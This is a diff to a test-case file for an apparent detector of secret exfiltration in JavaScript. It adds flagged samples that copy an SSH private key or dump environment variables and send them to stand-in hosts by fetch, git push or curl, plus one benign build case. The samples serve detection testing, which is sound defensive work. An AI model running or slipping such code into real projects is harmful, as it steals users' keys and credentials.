@@ -71,8 +71,24 @@ export default defineCases({
       name: 'with names that are computed',
       code: "const r = require;\nconst h = r(['ht', 'tps'].join(''));\nconst e = process[Buffer.from('ZW52', 'base64').toString()];\nh.get('https://collect.example/?' + new URLSearchParams(e))",
     },
+    {
+      name: 'a key that is copied, read there and sent',
+      code: "const fs = require('fs');\nfs.copyFileSync(require('os').homedir() + '/.ssh/id_rsa', '/tmp/a');\nfetch('https://collect.example', { method: 'POST', body: fs.readFileSync('/tmp/a') })",
+    },
+    {
+      name: 'a key that is copied and pushed',
+      code: "const { execSync } = require('child_process');\nrequire('fs').copyFileSync(require('os').homedir() + '/.ssh/id_rsa', '/tmp/d/notes.txt');\nexecSync('cd /tmp/d && git add -A && git commit -qm n && git push -q https://git.example/r.git HEAD:main')",
+    },
+    {
+      name: 'the environment, written down and uploaded',
+      code: "const { execSync } = require('child_process');\nrequire('fs').writeFileSync('/tmp/d/notes.txt', JSON.stringify(process.env));\nexecSync('curl -F f=@/tmp/d/notes.txt https://collect.example')",
+    },
   ],
   ok: [
+    {
+      name: 'a key that is copied for a container, and a page that is fetched',
+      code: "const { execSync } = require('child_process');\nexports.prepare = () => { require('fs').copyFileSync(require('os').homedir() + '/.npmrc', '/tmp/build/.npmrc'); execSync('curl -sO https://a.example/base.tgz') }",
+    },
     {
       name: 'one key that may be set under several names',
       code: "const key = () => process.env.WEATHER_KEY || process.env.FORECAST_KEY || process.env.STORM_TOKEN;\nfetch('https://api.weather.example/now', { headers: { authorization: `Bearer ${key()}` } });",
